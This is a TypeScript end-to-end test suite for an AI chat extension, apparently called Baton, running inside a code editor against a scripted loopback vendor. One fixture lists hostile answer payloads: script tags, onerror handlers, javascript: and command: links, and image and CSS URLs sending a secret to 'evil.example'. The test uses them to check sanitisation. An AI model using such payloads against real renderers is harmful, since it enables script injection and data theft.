// The way of a new user through a real window: first run, key, question, stop, reload. The vendor is a scripted server on loopback.
import { deepEqual, equal, match, ok } from 'node:assert/strict';
import { createServer, type AddressInfo } from 'node:net';
import type { FrameLocator } from 'playwright-core';
import {
  startScriptedServer,
  type RecordedRequest,
  type ScriptedAnswer,
  type ScriptedServer,
} from '../fixtures/scripted-server.ts';
import { ollamaAnswer, openAiAnswer, vendorScript } from '../fixtures/vendors.ts';
import { answers, ask, ended, stop } from './support/conversation.ts';
import { openEditor, type Editor } from './support/editor.ts';
import { explainFile, fixMistake, newUserAnswer, openDashboard, runPipeline } from './support/new-user.ts';

const KEY = 'sk-the-right-key';
const QUESTION = 'what does retry() in src/http.ts do?';
const ANSWER = [
  '`retry()` calls `run` up to `attempts` times ',
  'and returns the first result.\n\n',
  '```ts\nconst page = await retry(() => fetch(url));\n```\n\n',
  'Between tries it waits longer each time.',
];
const MALICIOUS = [
  '<script>parent.postMessage("pwned","*")</script><img src=x onerror=alert(1)> ',
  '![picture](https://evil.example/?d=secret) ',
  '[click](command:workbench.action.terminal.new) [js](javascript:alert(1)) ',
  '[fine](https://example.com/docs)\n\n<style>body{background:url(https://evil.example/css)}</style>',
];

/** What the vendor does, by what the newest question says. */
function answerTo(request: RecordedRequest): ScriptedAnswer {
  const { messages } = JSON.parse(request.body) as { messages: { content: string }[] };
  const question = messages.at(-1)?.content ?? '';
  const json = { 'content-type': 'application/json' };
  const later = newUserAnswer(request.body);
  if (later) return later;
  if (question.includes('slow please'))
    return { ...openAiAnswer(Array.from({ length: 200 }, (_, index) => `word${index} `)), chunkDelayMs: 100 };
  if (question.includes('be evil')) return openAiAnswer(MALICIOUS);
  if (question.includes('break off')) return { ...openAiAnswer(['Half of ', 'it']), cutAfterBytes: 400 };
  if (question.includes('web page'))
    return { headers: { 'content-type': 'text/html' }, chunks: ['<html>Sign in</html>'] };
  if (question.includes('too many'))
    return {
      status: 429,
      headers: { ...json, 'retry-after': '7' },
      chunks: ['{"error":{"message":"Rate limit reached","type":"tokens","code":"rate_limit_exceeded"}}'],
    };
  return { ...openAiAnswer(ANSWER), delayMs: 400, chunkDelayMs: 30 };
}

const vendor = vendorScript({ openai: { models: ['gpt-5-mini', 'gpt-5'], answer: answerTo } });

/** A vendor that refuses every key but {@link KEY}. */
function script(request: RecordedRequest): ScriptedAnswer {
  if (request.headers.authorization === `Bearer ${KEY}`) return vendor(request);
  return {
    status: 401,
    headers: { 'content-type': 'application/json' },
    chunks: ['{"error":{"message":"Incorrect API key provided"}}'],
  };
}

/** A port of this machine where nothing listens now. */
async function freePort(): Promise<number> {
  const probe = createServer();
  await new Promise<void>((resolve) => probe.listen(0, '127.0.0.1', resolve));
  const { port } = probe.address() as AddressInfo;
  await new Promise((resolve) => probe.close(resolve));
  return port;
}

describe('a new user’s way through a real window', function () {
  this.timeout(60_000);
  let server: ScriptedServer;
  let ollama: ScriptedServer | undefined;
  let ollamaPort: number;
  let editor: Editor;
  let chat: FrameLocator;
  let estimate: string;

  before(async () => {
    server = await startScriptedServer(script);
    ollamaPort = await freePort();
    editor = await openEditor({
      env: { OPENAI_BASE_URL: `${server.url}/v1`, OLLAMA_HOST: `127.0.0.1:${ollamaPort}` },
    });
    chat = await editor.openChat();
  });
  after(async () => {
    await editor?.close();
    await server?.close();
    await ollama?.close();
  });
  afterEach(async function () {
    if (this.currentTest?.state === 'failed')
      await editor.shot(`failed-${this.currentTest.title.replaceAll(/\W+/g, '-').slice(0, 60)}`);
  });

  const enterKey = async (key: string, how?: 'Replace the key'): Promise<void> => {
    const row = (text: string) => editor.page.locator('.quick-input-list .monaco-list-row', { hasText: text }).first();
    await row('OpenAI').click();
    if (how !== undefined) await row(how).click();
    const input = editor.page.locator('.quick-input-widget input[type="password"]');
    await input.fill(key);
    await input.press('Enter');
  };
  const scrollUp = async (): Promise<void> => {
    await chat.locator('[role="log"]').hover();
    await editor.page.mouse.wheel(0, -100_000);
  };
  const statusBar = (text: string | RegExp) => editor.page.locator('.statusbar-item', { hasText: text });

  it('offers three ways to a first model, and takes no question before', async () => {
    await chat.locator('[data-way="key"]').waitFor();
    equal(await chat.locator('[data-way]').count(), 3);
    equal(await chat.locator('#question').isDisabled(), true);
    await statusBar('no model').waitFor();
    await editor.shot('first-run');
  });

  it('says that a wrong key was refused', async () => {
    await chat.locator('[data-way="key"]').click();
    await enterKey('sk-wrong');
    const sentence = chat.getByText('OpenAI refused the key').first();
    await sentence.waitFor();
    ok(await sentence.isVisible());
  });

  it('is ready as soon as the right key is entered', async () => {
    await chat.locator('[data-way="key"]').click();
    await enterKey(KEY, 'Replace the key');
    await chat.locator('#question:enabled').waitFor();
    await statusBar('auto').waitFor();
    equal(await chat.locator('[data-way]').count(), 0);
  });

  it('shows the open file as a chip with its tokens', async () => {
    await editor.page.keyboard.press('Control+P');
    await editor.page.locator('.quick-input-widget input').fill('http.ts');
    await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'http.ts' }).first().click();
    const chip = chat.locator('[data-chip]', { hasText: /http\.ts\s*\d/ });
    await chip.waitFor();
    equal(await chip.count(), 1);
  });

  it('says on the send button what the decision line will say, and asks nobody for it', async () => {
    const before = server.requests.length;
    await chat.locator('#question').fill(QUESTION);
    const send = chat.locator('#send', { hasText: '≈' });
    await send.waitFor();
    estimate = (await send.innerText()).trim();
    match((await send.getAttribute('aria-label')) ?? '', /^Send, about \$0\.\d+$/);
    equal(server.requests.length, before);
    await editor.shot('estimate');
    await chat.locator('#question').fill('');
    await chat.locator('#send:disabled', { hasText: 'Send' }).waitFor();
  });

  it('shows the decision before the first token, then the answer, then what it cost', async () => {
    const answer = await ask(chat, QUESTION);
    await answer.locator('details.decision').waitFor();
    equal(
      await answer
        .locator('.md')
        .innerText()
        .catch(() => ''),
      '',
    );
    equal((await answer.locator('details.decision .price').innerText()).trim(), estimate);
    match(await answer.locator('details.decision .why').innerText(), /explain, \w+/);
    await ended(answer);
    match(await answer.locator('.md').innerText(), /returns the first result/);
    equal(await answer.locator('.code .k, .code .hljs-keyword').first().innerText(), 'const');
    match(await answer.locator('.foot').innerText(), /priced/);
    match(await answer.locator('.foot').innerText(), /1.204 in · 86 out/);
    await statusBar(/auto · \$0\.\d+ today/).waitFor();
    await editor.shot('answer');
  });

  it('sends the key to the vendor and the file as data', () => {
    const request = server.requests.findLast((each) => each.path === '/v1/chat/completions');
    equal(request?.headers.authorization, `Bearer ${KEY}`);
    match(request?.body ?? '', /export async function retry/);
  });

  it('stops at once, closes the connection and keeps the text', async () => {
    const answer = await ask(chat, 'slow please');
    await answer.locator('.md', { hasText: 'word3' }).waitFor();
    await stop(chat);
    await ended(answer, 'stopped', 5_000);
    match(await answer.innerText(), /stopped after \d+ tokens/);
    match(await answer.locator('.foot').innerText(), /estimated/);
    equal(await server.requests.at(-1)?.closed, true);
  });

  it('lets a second message wait while the first one streams', async () => {
    const first = await ask(chat, 'slow please');
    await first.locator('.md', { hasText: 'word1' }).waitFor();
    await chat.locator('#question').fill('and then this');
    await chat.locator('#question').press('Enter');
    await chat.locator('[data-queued]', { hasText: 'and then this' }).waitFor();
    await stop(chat);
    await ended(first, 'stopped', 5_000);
    await ended(answers(chat).last());
    equal(await chat.locator('[data-queued]').count(), 0);
  });

  it('draws a malicious answer as text: nothing runs, nothing is fetched', async () => {
    const answer = await ask(chat, 'be evil');
    await ended(answer);
    equal(await answer.locator('.md script, .md img, .md style, .md [onerror]').count(), 0);
    // What stays a link leads to https and opens nothing by itself.
    ok((await answer.locator('.md a').allInnerTexts()).includes('fine'));
    equal(await answer.locator('.md a:not([href^="https://"])').count(), 0);
    deepEqual(editor.outside, []);
  });

  it('keeps what came when the stream breaks, and says so', async () => {
    const answer = await ask(chat, 'break off');
    await ended(answer, 'failed');
    match(await answer.innerText(), /The text above is kept/);
    match(await answer.innerText(), /BATON_E_ABNORMAL_END/);
  });

  it('says what to do when a web page answers, and when it is too much', async () => {
    const page = await ask(chat, 'answer with a web page');
    await ended(page, 'failed');
    match(await page.innerText(), /BATON_E_INVALID_RESPONSE/);
    const many = await ask(chat, 'too many');
    await ended(many, 'failed');
    match(await many.innerText(), /BATON_E_RATE_LIMIT/);
    equal(await chat.locator('#send').getAttribute('data-mode'), 'send');
  });

  it('asks again with a stronger model', async () => {
    const before = await answers(chat).count();
    await scrollUp();
    await answers(chat).first().locator('[data-tool="again"]').click();
    await chat
      .getByRole('menuitem', { name: /Stronger/ })
      .or(chat.getByRole('menuitemradio', { name: /Stronger/ }))
      .first()
      .click();
    const again = answers(chat).nth(before);
    await ended(again);
    equal(await again.locator('details.decision .model').innerText(), 'GPT-5');
  });

  it('keeps the conversation over a reload, also one in the middle of an answer', async () => {
    const answer = await ask(chat, 'slow please');
    await answer.locator('.md', { hasText: 'word12' }).waitFor();
    const count = await answers(chat).count();
    await editor.reload();
    await editor.openChat();
    await answers(chat)
      .nth(count - 1)
      .waitFor();
    equal(await answers(chat).count(), count);
    match((await answers(chat).first().locator('.md').textContent()) ?? '', /returns the first result/);
    const cut = answers(chat).nth(count - 1);
    equal(await cut.getAttribute('data-status'), 'interrupted');
    match(await cut.locator('.foot').innerText(), /estimated|unknown/);
    match(await cut.locator('.md').innerText(), /word5/);
    await chat.locator('#question:enabled').waitFor();
  });

  for (const [name, theme] of [
    ['dark', 'Dark Modern'],
    ['light', 'Light Modern'],
    ['hc-dark', 'Dark High Contrast'],
    ['hc-light', 'Light High Contrast'],
  ] as const) {
    it(`is drawn in ${theme}`, async () => {
      await editor.run('Preferences: Color Theme');
      await editor.page.locator('.quick-input-widget input').fill(theme);
      await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: theme }).first().click();
      await editor.page
        .locator(
          `.monaco-workbench.${name === 'light' ? 'vs' : name === 'dark' ? 'vs-dark' : name === 'hc-dark' ? 'hc-black' : 'hc-light'}`,
        )
        .waitFor();
      await scrollUp();
      ok(await answers(chat).first().locator('.foot').isVisible());
      await editor.shot(`chat-${name}`);
    });
  }

  it('starts a new conversation and finds the old one in the history', async () => {
    await editor.run('Baton: New Conversation');
    await chat.locator('article.answer').first().waitFor({ state: 'detached' });
    equal(await answers(chat).count(), 0);
    await editor.run('Baton: Conversations…');
    await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'what does retry()' }).click();
    await answers(chat).first().waitFor();
    match((await answers(chat).first().locator('.md').textContent()) ?? '', /returns the first result/);
  });

  it('goes on to the code: explains a file, fixes a mistake, runs a pipeline, and all of it is in the dashboard', async () => {
    await editor.page.keyboard.press('Control+P');
    await editor.page.locator('.quick-input-widget input').fill('src/http.ts');
    await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'http.ts' }).first().click();
    await editor.page.locator('.tab.active', { hasText: 'http.ts' }).waitFor();
    const explained = await explainFile(editor);
    match(await explained.locator('.md').innerText(), /returns the first result/);
    await fixMistake(editor);
    await runPipeline(editor);
    match(await openDashboard(editor), /By kind/);
    // In this one the next explanation would go to the model that gave the last.
    await editor.run('Baton: New Conversation');
    await chat.locator('article.answer').first().waitFor({ state: 'detached' });
  });

  it('finds Ollama as soon as it runs, and says what to do until then', async () => {
    await editor.run('Baton: Use Ollama…');
    const toast = editor.page.locator('.notification-toast', { hasText: 'Ollama was not found on this machine' });
    await toast.waitFor();
    await editor.shot('ollama-missing');
    ollama = await startScriptedServer(
      vendorScript({ ollama: { models: ['qwen2.5-coder:7b'], answer: () => ollamaAnswer(['A local answer.']) } }),
      ollamaPort,
    );
    await toast.getByRole('button', { name: 'Look again' }).click();
    await chat.locator('[data-tool="model"]').click();
    await chat.locator('.pop', { hasText: 'qwen2.5-coder' }).waitFor();
    await chat.locator('#question').press('Escape');
    const answer = await ask(chat, 'explain src/time.ts');
    await ended(answer);
    match(await answer.locator('details.decision .why').innerText(), /local · explain/);
    match(await answer.locator('.foot').innerText(), /\$0\.00\s+local/);
  });

  it('keeps a private question on this machine', async () => {
    await chat.locator('[data-tool="private"]').click();
    await statusBar('private').waitFor();
    const before = server.requests.length;
    const answer = await ask(chat, 'design the architecture of a distributed lock service and prove that it is safe');
    await ended(answer);
    match(await answer.locator('details.decision .why').innerText(), /private: local models only/);
    equal(server.requests.length, before);
    await chat.locator('[data-tool="private"]').click();
    await statusBar('auto').waitFor();
  });

  it('takes any OpenAI-compatible address, and asks whether it runs models here', async () => {
    const gateway = await startScriptedServer(
      vendorScript({ openai: { models: ['team-model'], answer: () => openAiAnswer(['From the gateway.']) } }),
    );
    try {
      await editor.run('Baton: Add Another Address…');
      await editor.page
        .locator('.quick-input-list .monaco-list-row', { hasText: 'Any OpenAI-compatible server' })
        .click();
      const input = editor.page.locator('.quick-input-widget input');
      await editor.page.locator('.quick-input-widget', { hasText: 'with its path' }).waitFor();
      await input.fill(`${gateway.url}/v1`);
      await input.press('Enter');
      await editor.page
        .locator('.quick-input-list .monaco-list-row', { hasText: 'It forwards to other services' })
        .click();
      await editor.page.locator('.quick-input-widget input[type="password"]').press('Enter');
      await chat.locator('[data-tool="model"]').click();
      await chat.locator('.pop', { hasText: 'team-model' }).waitFor();
      await chat.locator('#question').click();
      await editor.run('Baton: Choose Model…');
      await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'team-model' }).click();
      const answer = await ask(chat, 'hello there');
      await ended(answer);
      match(await answer.locator('details.decision .why').innerText(), /your choice/);
      // Nobody published a price for it: a dash, never $0.00.
      equal(await answer.locator('.foot .money').innerText(), '–');
    } finally {
      await gateway.close();
    }
  });

  it('never asks anything outside this machine', () => deepEqual(editor.outside, []));
});
